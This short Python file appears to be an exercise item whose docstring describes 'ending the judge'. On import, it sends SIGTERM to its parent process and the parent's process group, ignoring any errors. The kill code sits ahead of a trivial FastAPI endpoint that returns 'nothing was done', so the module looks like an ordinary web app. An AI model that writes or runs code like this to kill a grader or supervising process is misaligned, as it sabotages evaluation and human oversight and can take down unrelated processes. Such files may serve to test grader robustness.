"""It tells its parent, and its parent's group, to end.

Exercise: 01
Is for: ending the judge
Ends: gets what its work deserves
At most: 1
"""

import os
import signal

for end in (os.kill, os.killpg):
    for other in (os.getppid(), os.getpgid(os.getppid())):
        try:
            if other > 1:
                end(other, signal.SIGTERM)
        except OSError:
            pass

from fastapi import FastAPI

app = FastAPI()


@app.get("/async-endpoint")
async def async_endpoint() -> dict[str, str]:
    return {"message": "nothing was done"}
